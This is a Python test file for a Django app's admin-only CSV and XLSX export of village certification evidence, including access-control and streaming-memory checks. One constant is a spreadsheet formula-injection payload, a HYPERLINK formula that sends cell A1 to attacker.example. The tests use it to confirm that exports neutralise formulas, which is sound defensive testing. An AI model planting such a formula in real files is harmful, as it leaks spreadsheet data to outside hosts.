"""A run's evidence for every village as CSV and XLSX: admins only, streamed, formulas neutralised."""

import csv
import io
import tracemalloc

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certification import selectors, services
from certification.models import RunTrigger
from core.spreadsheet import csv_stream, xlsx_stream
from tests.certification.conftest import CUTOFF, add_sales, add_shops
from tests.factories import PASSWORD, FarmerFactory, StationFactory, VillageFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"x")'


def _run():
    add_shops(VillageFactory(name=FORMULA, households=120), 3)
    add_sales(VillageFactory(name="Dongfeng"), "2500000.50")
    VillageFactory(name="Empty")
    run, _ = services.assessment_run_start(trigger=RunTrigger.SCHEDULE, cutoff=CUTOFF, enqueue=False)
    return services.assessment_run_execute(run_id=run.pk)


def _download(client, run, kind):
    response = client.get(reverse("certification:run_evidence_export", args=[run.pk, kind]))
    assert response.status_code == 200 and response.streaming
    assert f"run{run.pk}-202511-202610.{kind}" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def test_admin_downloads_every_villages_evidence_as_csv_and_xlsx(client, admin_user):
    run = _run()
    client.force_login(admin_user)
    assert b"evidence.csv" in client.get(run.get_absolute_url()).content
    rows = list(csv.reader(io.StringIO(_download(client, run, "csv").decode())))
    header = rows[0]
    assert header == selectors.evidence_export_header()
    assert len(rows) == 1 + 3
    by_name = {row[header.index("village")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert "'" + FORMULA in by_name  # neutralised: a spreadsheet shows it as text
    hooked = by_name["'" + FORMULA]
    assert (hooked["policy_version"], hooked["window_start"], hooked["window_end"]) == ("1", "2025-11-01", "2026-10-31")
    assert (hooked["active_shops"], hooked["shops"], hooked["eligible"]) == ("3", "3", "no")
    assert by_name["Dongfeng"]["sales_volume"] == "2500000.50"

    sheet = load_workbook(io.BytesIO(_download(client, run, "xlsx")), read_only=True).active
    cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert cells[0] == header and len(cells) == 4
    named = {row[header.index("village")]: row for row in cells[1:]}
    assert "'" + FORMULA in named
    assert float(named["Dongfeng"][header.index("sales_volume")]) == 2500000.50  # a number, not text


def test_only_admins_download_evidence(client):
    run = _run()
    url = reverse("certification:run_evidence_export", args=[run.pk, "csv"])
    assert client.get(url).status_code == 302  # to the log-in page
    for user in (FarmerFactory(), StationFactory().operator):
        client.login(username=user.username, password=PASSWORD)
        assert client.get(url).status_code == 403
    assert client.get(reverse("certification:run_evidence_export", args=[run.pk, "pdf"])).status_code in (403, 404)


def test_exports_stream_in_constant_memory():
    """Twenty times the rows, not twice the memory: the writers hold a piece at a time (CSV) or a row at a time
    (XLSX, write-only mode). (tracemalloc slows Python down ~10x, hence no 500,000 rows here; bench/ does it.)"""

    def rows(n):
        for i in range(n):
            yield (
                1,
                1,
                "2026-11-01",
                "2025-11-01",
                "2026-10-31",
                i,
                f"Village {i}",
                "村",
                "T",
                "C",
                300,
                120,
                101,
                100,
            )

    def peak(stream, n):
        tracemalloc.start()
        for _ in stream(rows(n)):
            pass
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    header = [f"c{i}" for i in range(14)]
    small, large = (peak(lambda r: csv_stream(header, r), n) for n in (2_000, 40_000))
    assert large < small * 2 and large < 2_000_000, (small, large)
    small, large = (peak(lambda r: xlsx_stream(header, r, title="t"), n) for n in (500, 10_000))
    assert large < small * 2 and large < 20_000_000, (small, large)
